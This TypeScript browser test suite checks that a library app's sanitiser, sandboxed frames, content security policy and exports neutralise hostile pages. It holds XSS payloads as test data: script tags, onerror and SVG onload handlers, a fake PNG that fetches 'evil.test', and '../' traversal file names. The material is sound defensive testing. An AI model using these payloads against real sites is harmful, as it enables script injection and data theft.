// Untrusted content in a real Chromium: nothing runs, nothing is loaded, nothing leaves the frame or the folder. Each defence alone, then
// all together.
import assert from 'node:assert/strict';
import { readdirSync, readFileSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, before, suite, test } from 'node:test';
import { pathToFileURL } from 'node:url';
import { exportPages } from '../src/library/export/export.ts';
import { bodyPolicy, frameDocument, frameSandbox, pageStyle } from '../src/library/render/document.ts';
import { renderPage } from '../src/library/render/render.ts';
import { escapeHtml } from '../views/html.ts';
import { ada, type Desk, startDesk } from './support/desk.ts';
import { startVariant } from './support/hostile.ts';
import { hostileBodies, hostileTitles } from './support/hostile-pages.ts';
import { createLibraryFixture, type LibraryFixture, pageCss, png } from './support/library.ts';
import { type WatchedBrowser, type WatchedContext, watchedBrowser } from './support/library-browser.ts';
import { need } from './support/requirement.ts';

interface Found {
  readonly odd: number;
  readonly handlers: number;
  readonly schemes: readonly string[];
  readonly again: string;
}

/**
 * Runs in the page: for each `main`, elements of other namespaces, attributes that could run, link targets, and the tree as text; and the
 * number of elements that no `main` holds.
 */
const lookAround = `({
  outside: document.querySelectorAll('head *, body > :not(main)').length,
  found: [...document.querySelectorAll('body > main')].map((main) => {
    const all = [...main.querySelectorAll('*')];
    const names = all.flatMap((one) => one.getAttributeNames());
    return {
      odd: all.filter((one) => one.namespaceURI !== 'http://www.w3.org/1999/xhtml').length,
      handlers: names.filter((name) => name.startsWith('on') || name === 'style').length,
      schemes: [...new Set([...main.querySelectorAll('a[href]')].map((one) => one.protocol))],
      again: main.innerHTML,
    };
  }),
})`;

/** Runs in the page: opens each path in a frame of its own. @returns how many were loaded */
const openFrames = (
  paths: readonly string[],
  sandbox = '',
) => `Promise.all(${JSON.stringify(paths)}.map((path) => {
  const frame = document.createElement('iframe');
  if (${JSON.stringify(sandbox)}) frame.sandbox = ${JSON.stringify(sandbox)};
  frame.src = path;
  const loaded = new Promise((resolve) => { frame.onload = resolve; });
  document.body.append(frame);
  return loaded;
})).then((all) => all.length)`;

/** Several documents to a page: a navigation of a whole window costs much more than a frame. */
function inBatches<T>(all: readonly T[]): T[][] {
  const size = 25;
  return Array.from({ length: Math.ceil(all.length / size) }, (_, i) => all.slice(i * size, (i + 1) * size));
}

/** A hundred pages in a browser take time on a busy machine. */
const slow = { timeout: 240_000 };
const picture = png(4, 4, [200, 100, 50]);
/** Browsers serialise attributes and whitespace differently from the library; nothing else may differ. */
const inOneForm = (markup: string) =>
  markup
    .replaceAll(' />', '>')
    .replaceAll('\u00a0', '&nbsp;')
    .replace(/"[^"]*"/g, (value) => value.replaceAll('&lt;', '<').replaceAll('&gt;', '>'));
const svg = Buffer.from(
  '<svg xmlns="http://www.w3.org/2000/svg" onload="top.SENTINEL()"><script>top.SENTINEL()</script></svg>',
);
const lie = Buffer.from('<!doctype html><script>top.SENTINEL();fetch("http://evil.test/lie")</script>');

suite('hostile pages of the library', await need('chromium'), () => {
  let desk: Desk;
  let library: LibraryFixture;
  let app: Awaited<ReturnType<typeof startVariant>>;
  let browser: WatchedBrowser;
  const ids: string[] = [];
  before(async () => {
    desk = await startDesk({ store: 'sqlite', settings: { PUBLIC_URL: 'http://localhost:4180' } });
    library = createLibraryFixture();
    library.space('DOC', '"><script>top.SENTINEL()</script>');
    for (const [index, [about, body]] of hostileBodies.entries()) {
      const title =
        index % 2 === 0 ? about : `${about} <script>SENTINEL()</script>"><img src=x onerror=SENTINEL()>`;
      const id = library.page({ title, body, author: '<script>SENTINEL()</script>' });
      ids.push(id);
      library.file(id, 'picture.png', 'image/png', picture);
      library.file(id, 'evil.svg', 'image/svg+xml', svg);
      library.file(id, 'lie.png', 'image/png', lie);
    }
    app = await startVariant(desk, { library: { library: library.parts, recorder: library.recorder } });
    browser = await watchedBrowser();
  });
  after(async () => {
    await browser.close();
    await app.close();
    library.close();
    await desk.close();
  });

  const foreign = (asked: readonly string[], ...own: string[]) =>
    asked.filter((url) => !own.some((start) => url.startsWith(start)));

  test('the detector notices what runs and what loads', async () => {
    const { context, page, ran } = await browser.context();
    await page.goto('about:blank');
    const seen = page.waitForEvent('requestfinished');
    await page.setContent('<script>SENTINEL()</script><img src="http://evil.test/seen.png">');
    await seen;
    assert.deepEqual(ran, ['sentinel']);
    assert.ok(browser.arrived.some((line) => line.endsWith('/seen.png')));
    browser.arrived.length = 0;
    await context.close();
  });

  test('sanitised markup only, without frame or policy', slow, async () => {
    const { context, page, asked, ran } = await browser.context();
    const sanitised = ids.map((id) => {
      const stored = library.parts.pages.page(id);
      return stored ? renderPage(stored, library.parts) : '';
    });
    // All in one document: what breaks out of its own `main` is outside, or changes the next one.
    await context.route('http://bare.test/**', (route) =>
      route.fulfill({
        contentType: 'text/html; charset=utf-8',
        body: `<!doctype html>${sanitised.map((markup) => `<main>${markup}</main>`).join('')}`,
      }),
    );
    await page.goto('http://bare.test/');
    const { outside, found } = (await page.evaluate(lookAround)) as { outside: number; found: Found[] };
    for (const [index, [about]] of hostileBodies.entries()) {
      const one = found[index];
      assert.deepEqual([one?.odd, one?.handlers], [0, 0], about);
      assert.deepEqual(
        one?.schemes.filter((scheme) => !['http:', 'https:', 'mailto:'].includes(scheme)),
        [],
        about,
      );
      // The browser parsed exactly what was written: no mutation (mXSS).
      assert.equal(inOneForm(one?.again ?? ''), inOneForm(sanitised[index] ?? ''), about);
    }
    assert.deepEqual([outside, found.length], [0, hostileBodies.length]);
    assert.deepEqual(ran, []);
    assert.deepEqual(foreign(asked, 'http://bare.test/'), []);
    await context.close();
  });

  test('frame and policy only, around unsanitised markup', slow, async () => {
    const { context, page, asked, ran } = await browser.context();
    // Browsers themselves take long over the most deeply nested ones.
    const batches = inBatches(
      [...hostileBodies.keys()].filter((i) => (hostileBodies[i]?.[1].length ?? 0) <= 60_000),
    );
    const policy = bodyPolicy(pageStyle(pageCss()), 'http://frame.test/library/attachments/');
    await context.route('http://frame.test/**', (route) => {
      const { pathname } = new URL(route.request().url());
      const index = Number(pathname.split('/')[2]);
      if (pathname.startsWith('/body/'))
        return route.fulfill({
          contentType: 'text/html; charset=utf-8',
          headers: {
            'content-security-policy': policy.replace("frame-ancestors 'self'; ", ''),
            'x-content-type-options': 'nosniff',
          },
          body: `<!doctype html><body>${hostileBodies[index]?.[1] ?? ''}`,
        });
      if (pathname.startsWith('/pages/'))
        return route.fulfill({
          contentType: 'text/html',
          headers: { 'content-security-policy': "frame-src 'self'" },
          body: `<!doctype html>${batches[index]
            ?.map((one) => `<iframe src="/body/${one}" sandbox="${frameSandbox}"></iframe>`)
            .join('')}`,
        });
      return route.fulfill({ status: 404, body: '' });
    });
    for (const [batch, indexes] of batches.entries()) {
      const about = indexes.map((index) => hostileBodies[index]?.[0]).join(', ');
      await page.goto(`http://frame.test/pages/${batch}`);
      assert.equal(page.url(), `http://frame.test/pages/${batch}`, about);
      assert.deepEqual(ran, [], about);
    }
    for (const index of batches.flat()) assert.ok(asked.includes(`http://frame.test/body/${index}`));
    // The browser also reports requests that the policy then blocked; none of them left the machine.
    assert.ok(foreign(asked, 'http://frame.test/').length > 0);
    assert.deepEqual(browser.arrived, []);
    await context.close();
  });

  /** Every ninth page, which gives both kinds of titles, and those with a picture that is shown. */
  const chosen = hostileBodies.flatMap(([about, body], index) =>
    index % 9 === 0 || body.includes('ri:attachment') ? [{ about, index }] : [],
  );

  /** Opens the chosen pages one after the other. */
  async function openChosen(
    { page }: WatchedContext,
    pathOf: (id: string) => string,
    look: (path: string, about: string) => Promise<void>,
  ) {
    for (const { about, index } of chosen) {
      const path = `${app.origin}${pathOf(ids[index] ?? '')}`;
      await page.goto(path);
      assert.equal(page.url(), path, about);
      await look(path, about);
    }
  }

  /** A page without what is its own or this request's: title, ids, nonce and token. */
  function withoutOwn(
    markup: string,
    { id, title }: { readonly id: string; readonly title: string },
  ): string {
    const attached = library.parts.pages.attachmentsOf(id);
    return attached
      .reduce((now, file) => now.replaceAll(file.id, 'FILE'), markup)
      .replace(`<title>${escapeHtml(title)} ·`, '<title>TITLE ·')
      .replace(`<h1>${escapeHtml(title)}</h1>`, '<h1>TITLE</h1>')
      .replace(`title="${escapeHtml(title)}" sandbox`, 'title="TITLE" sandbox')
      .replaceAll(`/pages/${id}`, '/pages/ID')
      .replace(`name="page" value="${id}"`, '')
      .replace(/(?<= nonce=|"_csrf" value=)"[\w-]+"/g, '');
  }

  test('as served: the page differs only in its title, and the body is the sanitised one under its policy', async () => {
    const ask = app.browser(ada).ask;
    await ask('/dashboard');
    const style = pageStyle(pageCss());
    const policy = bodyPolicy(style, `${app.origin}/library/attachments/`);
    let first: string | undefined;
    for (const [index, [about]] of hostileBodies.entries()) {
      const id = ids[index] ?? '';
      const stored = library.parts.pages.page(id);
      assert.ok(stored, about);
      const shown = await ask(`/library/pages/${id}`);
      assert.equal(shown.status, 200, about);
      const page = withoutOwn(shown.text, stored);
      first ??= page;
      assert.equal(page, first, about);
      const body = await ask(`/library/pages/${id}/body`);
      assert.equal(body.headers['content-security-policy'], policy, about);
      assert.equal(body.headers['x-content-type-options'], 'nosniff', about);
      const expected = frameDocument(
        { title: stored.title, theme: 'auto' },
        renderPage(stored, library.parts),
        style,
      );
      assert.equal(body.text, expected, about);
    }
  });

  test('as people open it: the page with its frame, and every body in such a frame', slow, async () => {
    const watched = await browser.context(desk.gateHeaders(ada));
    const { context, page, asked, ran } = watched;
    await page.goto(`${app.origin}/dashboard`);
    await openChosen(
      watched,
      (id) => `/library/pages/${id}`,
      async (path, about) => {
        assert.equal(page.frames().length, 2, about);
        assert.equal(page.frames()[1]?.url(), `${path}/body`, about);
        assert.ok((await page.locator('h1').textContent())?.startsWith(about.slice(0, 10)), about);
      },
    );
    assert.ok(
      asked.filter((url) => url.includes('/attachments/')).length >= 2,
      'pictures of the library are loaded',
    );
    for (const batch of inBatches(ids)) {
      const path = `${app.origin}/library/pages/${ids[0]}`;
      await page.goto(path);
      await page.evaluate(
        openFrames(
          batch.map((id) => `/library/pages/${id}/body`),
          frameSandbox,
        ),
      );
      assert.equal(page.url(), path);
      assert.equal(page.frames().length, 2 + batch.length);
    }
    for (const id of ids) assert.ok(asked.includes(`${app.origin}/library/pages/${id}/body`), id);
    assert.deepEqual(ran, []);
    assert.deepEqual(foreign(asked, app.origin), []);
    assert.deepEqual(browser.arrived, []);
    await context.close();
  });

  test('as people open it: the body alone, the search, the space', slow, async () => {
    const watched = await browser.context(desk.gateHeaders(ada));
    const { context, page, asked, ran } = watched;
    await page.goto(`${app.origin}/dashboard`);
    await openChosen(
      watched,
      (id) => `/library/pages/${id}/body`,
      async (_path, about) => assert.equal(page.frames().length, 1, about),
    );
    for (const path of ['/library?q=script+SENTINEL', '/library/spaces/DOC', '/library'])
      await page.goto(`${app.origin}${path}`);
    assert.deepEqual(ran, []);
    assert.deepEqual(foreign(asked, app.origin), []);
    assert.deepEqual(browser.arrived, []);
    await context.close();
  });

  test('an attachment opened directly is not rendered as a page', async () => {
    const { context, page, ran } = await browser.context(desk.gateHeaders(ada));
    await page.goto(`${app.origin}/dashboard`);
    for (const { id, title } of library.parts.pages.attachmentsOf(ids[0] ?? '')) {
      const download = page.waitForEvent('download', { timeout: 5000 }).catch(() => undefined);
      await page.goto(`${app.origin}/library/attachments/${id}`).catch(() => undefined);
      if (title.endsWith('.svg')) assert.ok(await download, title);
      else assert.equal(await page.evaluate('document.scripts.length'), 0, title);
    }
    assert.deepEqual(ran, []);
    assert.deepEqual(browser.arrived, []);
    await context.close();
  });

  test('exported: every file is inside the folder, runs nothing and loads nothing', slow, async () => {
    library.space('T', 'Titles');
    for (const [index, title] of hostileTitles.entries())
      library.page({
        id: `t${index}`,
        title,
        space: 'T',
        body: `<p>${index}</p><ac:image><ri:attachment ri:filename="../${title.slice(0, 20).replace(/[<>"&\0\ud800]/g, '')}.png" /></ac:image>`,
      });
    for (const [index, title] of hostileTitles.entries())
      library.file(`t${index}`, `../${title.toWellFormed().slice(0, 20)}.png`, 'image/png', picture);
    const around = () =>
      readdirSync(library.folder, { recursive: true })
        .map(String)
        .filter((name) => !/^(exports|data)/.test(name));
    const before = around();
    const { pages, url, exportsFolder } = library.parts;
    const parts = { pages, url, exportsFolder, recorder: library.recorder, style: pageStyle(pageCss()) };
    for (const space of ['DOC', 'T']) {
      for (const format of ['html', 'markdown'] as const) {
        const outcome = await exportPages({ scope: { space }, format, by: 'terminal' }, parts);
        assert.equal(outcome.kind, 'done');
        const count = space === 'DOC' ? hostileBodies.length : hostileTitles.length;
        assert.deepEqual(outcome.kind === 'done' && [outcome.files, outcome.failed], [
          count + (format === 'html' ? 1 : 0),
          [],
        ]);
      }
    }
    assert.deepEqual(around(), before);
    assert.deepEqual(readdirSync(exportsFolder).sort(), ['.export.lock', 'DOC', 'T']);
    const { context, page, asked, ran } = await browser.context();
    const files: string[] = [];
    for (const space of ['DOC', 'T']) {
      const names = readdirSync(join(exportsFolder, space)).filter((name) => name !== 'files');
      for (const name of names) {
        assert.equal(statSync(join(exportsFolder, space, name)).mode & 0o777, 0o600);
        if (name.endsWith('.html')) files.push(pathToFileURL(join(exportsFolder, space, name)).href);
      }
    }
    const frames = join(library.folder, 'frames.html');
    writeFileSync(frames, '<!doctype html><body>');
    for (const batch of inBatches(files)) {
      await page.goto(pathToFileURL(frames).href);
      await page.evaluate(openFrames(batch));
      assert.equal(page.url(), pathToFileURL(frames).href);
    }
    for (const file of files) assert.ok(asked.includes(file), file);
    const own = pathToFileURL(exportsFolder).href;
    assert.deepEqual(foreign(asked, own, pathToFileURL(frames).href, 'data:image/png;base64,'), []);
    assert.ok(
      asked.filter((one) => one.startsWith(own)).every((one) => one.endsWith('.html')),
      'each file alone',
    );
    assert.deepEqual(ran, []);
    assert.deepEqual(browser.arrived, []);
    for (const name of readdirSync(join(exportsFolder, 'DOC')).filter((one) => one.endsWith('.md'))) {
      const text = readFileSync(join(exportsFolder, 'DOC', name), 'utf8');
      assert.doesNotMatch(
        text.replace(/(`{3,})[\s\S]*?\n[> ]*\1/g, '').replace(/`[^`\n]*`/g, ''),
        /(?<!\\)<(?!https?:|files\/|\.\/|mailto:)|\]\(<(?!https?:|files\/|\.\/|mailto:)/,
        name,
      );
    }
    await context.close();
  });
});
